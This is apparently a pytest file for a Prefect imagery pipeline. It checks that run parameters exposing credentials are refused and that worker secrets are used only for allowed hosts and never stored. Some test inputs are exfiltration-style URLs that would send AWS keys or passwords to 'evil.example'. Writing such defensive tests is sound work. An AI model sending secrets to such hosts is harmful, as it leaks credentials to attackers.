"""Attacks on what a run is asked with: secrets that would be kept, and secrets that would leave."""

from __future__ import annotations

import base64
import http.server
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from prefect.utilities.callables import parameter_schema
from pydantic import TypeAdapter, ValidationError

from flows.addresses import filled
from flows.fetching import origin, store_photo
from flows.parameters import Areas, CubeRef, PhotoRef
from flows.refresh_cubes import refresh_cubes
from geoloc.area import Area
from geoloc.errors import UsageError
from tests.loopback import serving_on_loopback
from tests.media import small_jpeg

SHOWN = [
    "https://us:PASSWD@photos.example/a.jpg",
    "https://TOKEN@photos.example/a.jpg",
    "https://${USER}:PASSWD@photos.example/a.jpg",
    "https://us:${P}@photos.example/a.jpg",
    "https:///us:PASSWD@photos.example/a.jpg",
    "https://us:PASSWD@photos.example",
    "https://photos.example/a.jpg?sig=SECRET",
    "https://photos.example/a.jpg?w=1&Sig=SECRET",
    "https://photos.example/a.jpg?w=1;key=SECRET",
    "https://photos.example/a.jpg?X-Amz-Signature=0123&w=1",
    "https://photos.example/a.jpg?X-Amz-Security-Token=abc",
    "https://photos.example/a.jpg?X-Goog-Signature=abc",
    "https://photos.example/a.jpg?access_token=abc",
    "https://photos.example/a.jpg?api_key=abc",
    "https://photos.example/a.jpg?apikey=abc",
    "https://photos.example/a.jpg?accessKey=abc",
    "https://photos.example/a.jpg?oh=00_AfB",
    "https://photos.example/a.jpg?ex=1&is=2&hm=abc",
    "https://photos.example/a.jpg?sig=${SIG}x",
    "https://photos.example/a.jpg?sig=x${SIG}",
    "https://photos.example/a.jpg?x=0123456789abcdef0123456789abcdef",
    "https://photos.example/a.jpg#token=abc",
    "https://photos.example/a?b?sig=abc",
    "https://api.telegram.org/file/bot123456:AAF-abcdefghijklmnopqrstuv/photos/1.jpg",
]
HARMLESS = [
    "/srv/in/a.jpg",
    "/srv/a@b/key=1?sig=2.jpg",
    "https://photos.example/a.jpg",
    "https://photos.example:8443/@channel/a.jpg",
    "https://photos.example/a.jpg?width=800&list=3&monkey=2",
    "https://photos.example/w.php?title=File:Saint_Sophia_Cathedral_in_the_old_town.jpg",
    "https://photos.example/a.jpg?sig=${SIG}",
    "https://photos.example/a.jpg?w=1&token=${T}&h=2",
    "https://${USER}:${PASS}@photos.example/a.jpg",
    "https://${TOKEN}@photos.example:8443/a.jpg?key=${KEY}",
]


@pytest.mark.parametrize("address", SHOWN)
@pytest.mark.parametrize("kind", [PhotoRef, CubeRef], ids=["photo", "cube"])
def test_an_address_that_shows_a_secret_is_refused(kind: object, address: str) -> None:
    """By the schema, which the server holds against it before it keeps it, and by the flow."""
    adapter = TypeAdapter(kind)
    assert not jsonschema.Draft202012Validator(adapter.json_schema()).is_valid(address)
    with pytest.raises(ValidationError):
        adapter.validate_python(address)


@pytest.mark.parametrize("address", HARMLESS)
def test_an_address_without_is_taken(address: str) -> None:
    adapter = TypeAdapter(PhotoRef)
    assert jsonschema.Draft202012Validator(adapter.json_schema()).is_valid(address)
    assert adapter.validate_python(address) == address


def test_who_is_refused_reads_what_to_do() -> None:
    with pytest.raises(jsonschema.ValidationError) as refused:
        jsonschema.validate(SHOWN[0], TypeAdapter(PhotoRef).json_schema())
    assert "a variable of the worker's environment" in refused.value.message


PHOTO = small_jpeg()


class _Guarded(http.server.BaseHTTPRequestHandler):
    """A photo for one who brings the user, the password and the signature."""

    def do_GET(self) -> None:
        right = base64.b64encode(b"us er:p@ss/1").decode()
        known = self.headers.get("Authorization") == f"Basic {right}"
        self.send_response(200 if known and self.path == "/a.jpg?sig=S%2FG%26n" else 403)
        self.end_headers()
        self.wfile.write(PHOTO)

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture
def port(monkeypatch: pytest.MonkeyPatch) -> Iterator[int]:
    for name, value in {"P_USER": "us er", "P_PASS": "p@ss/1", "P_SIG": "S/G&n"}.items():
        monkeypatch.setenv(name, value)
    with serving_on_loopback(_Guarded) as port:
        here = f"127.0.0.1:{port}"
        monkeypatch.setenv("GEOLOC_PHOTO_KEYS", f"P_USER@{here}, P_PASS@{here},P_SIG@{here}")
        yield port


def test_the_workers_secrets_are_used_and_kept_nowhere(port: int, tmp_path: Path) -> None:
    address = f"http://${{P_USER}}:${{P_PASS}}@127.0.0.1:{port}/a.jpg?sig=${{P_SIG}}"
    path = store_photo(address, tmp_path)
    assert path.read_bytes() == PHOTO
    assert origin(path, address)["fetched_from"] == f"127.0.0.1:{port}/a.jpg"
    kept = [str(file) + file.read_text(errors="replace") for file in tmp_path.rglob("*.*")]
    assert not any(value in text for text in kept for value in ("us er", "p@ss", "S/G", "S%2FG"))


@pytest.mark.parametrize(
    ("address", "why"),
    [
        ("https://evil.example/?q=${AWS_SECRET_ACCESS_KEY}", "may not be sent to evil.example"),
        ("https://evil.example/${P_PASS}", "may not be sent to evil.example"),
        ("https://127.0.0.1@evil.example/${P_PASS}", "may not be sent to evil.example"),
        ("https://127.0.0.1/${P_PASS}", "may not be sent to 127.0.0.1:"),
        ("https://${P_PASS}.evil.example/", "may not be sent to"),
        ("https://127.0.0.1:9/${HOME}", "may not be sent to"),
    ],
)
def test_no_other_secret_leaves_and_none_to_another_host(
    port: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, address: str, why: str
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "SECRET")
    with pytest.raises(UsageError, match=why) as refused:
        store_photo(address, tmp_path)
    assert "SECRET" not in str(refused.value).replace("AWS_SECRET_ACCESS_KEY", "")
    assert "\n" not in str(refused.value)
    assert port
    assert list(tmp_path.iterdir()) == []


def test_a_secret_that_is_allowed_but_not_set_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GEOLOC_PHOTO_KEYS", "GONE@photos.example")
    monkeypatch.delenv("GONE", raising=False)
    with pytest.raises(UsageError, match=r"\$\{GONE\} is not set in the worker's environment"):
        filled("https://photos.example/?sig=${GONE}")


def _area(**changes: Any) -> dict[str, Any]:
    place = {"name": "a", "crs": "EPSG:32636", "bounds": [300000, 5600000, 301000, 5601000]}
    files = {"imagery": {"kind": "geotiff", "paths": ["/srv/a.tif"]}}
    return {**place, **files, "model": "sandbox", "cube": "s3://cubes/a.zarr", **changes}


def _stac(**changes: Any) -> dict[str, Any]:
    return _area(imagery={"kind": "stac", "url": "https://stac.example/", **changes})


SHOWING_AREAS = [
    _area(cube="s3://us:SECRET@cubes/a.zarr"),
    _area(cube="https://store.example/a.zarr?sig=SECRET"),
    _area(model="https://us:SECRET@models.example/m"),
    _area(model="https://models.example/m?token=SECRET"),
    _area(bounds=None, geometry="/vsicurl/https://us:SECRET@files.example/a.geojson"),
    _area(bounds=None, geometry="https://files.example/a.geojson?X-Amz-Signature=SECRET"),
    _area(imagery={"kind": "geotiff", "paths": ["/a.tif", "https://t.example/a.tif?sig=SECRET"]}),
    _area(imagery={"kind": "geotiff", "paths": ["/vsicurl/https://u:SECRET@t.example/a.tif"]}),
    _area(imagery={"kind": "geotiff", "paths": ["/vsis3/b/a.tif?AWS_SECRET_ACCESS_KEY=SECRET"]}),
    _area(imagery={"kind": "xyz", "url": "https://t.example/{z}/{x}/{y}?key=SECRET"}),
    _area(imagery={"kind": "zarr", "path": "https://u:SECRET@t.example/a-imagery.zarr"}),
    _stac(url="https://u:SECRET@stac.example/"),
    _stac(sign="https://sign.example/{collection}?apikey=SECRET"),
    _stac(sign="sv=2024&sig=SECRET"),
    _stac(query={"a": {"eq": "https://t.example/?sig=SECRET"}}),
    _stac(query={"a": [{"in": ["b", "https://u:SECRET@t.example/"]}]}),
    _stac(query={"https://u:SECRET@t.example/": 1}),
]
HARMLESS_AREAS = [
    _area(),
    _area(cube="/srv/a.zarr", bounds=None, geometry="/srv/in/a@b.geojson", step=12.5),
    _area(imagery={"kind": "geotiff", "paths": ["https://t.example/a.tif?sig=${SIG}"]}),
    _area(imagery={"kind": "geotiff", "paths": ["https://${U}:${P}@t.example/a.tif"]}),
    _area(imagery={"kind": "xyz", "url": "https://{s}.t.example/{z}/{x}/{y}?quadkey={q}&key=${K}"}),
    _area(imagery={"kind": "xyz", "url": "Esri.WorldImagery", "user_agent": "us (me@b.example)"}),
    _stac(sign="planetary-computer", query={"eo:cloud_cover": {"lt": 20}, "p": {"in": ["a"]}}),
    _stac(sign="${SIGN}", datetime="2024-04-01/.."),
    _stac(sign="https://sign.example/{collection}?apikey=${KEY}"),
]


def _parameters() -> dict[str, Any]:
    """The schema that Prefect's server holds a run's parameters against before it keeps them."""
    schema: dict[str, Any] = parameter_schema(refresh_cubes).model_dump_for_openapi()
    return schema


@pytest.mark.parametrize("area", SHOWING_AREAS)
def test_an_area_in_a_run_that_shows_a_secret_is_refused(area: dict[str, Any]) -> None:
    given = {"areas": ["/srv/a.yaml", area]}
    assert not jsonschema.Draft202012Validator(_parameters()).is_valid(given)
    with pytest.raises(ValidationError):
        TypeAdapter(Areas).validate_python(given["areas"])


@pytest.mark.parametrize("area", HARMLESS_AREAS)
def test_an_area_in_a_run_without_is_taken(area: dict[str, Any]) -> None:
    jsonschema.Draft202012Validator(_parameters()).validate({"areas": ["/srv/a.yaml", area]})
    (_, taken) = TypeAdapter(Areas).validate_python(["/srv/a.yaml", area])
    assert taken == Area.model_validate(area)
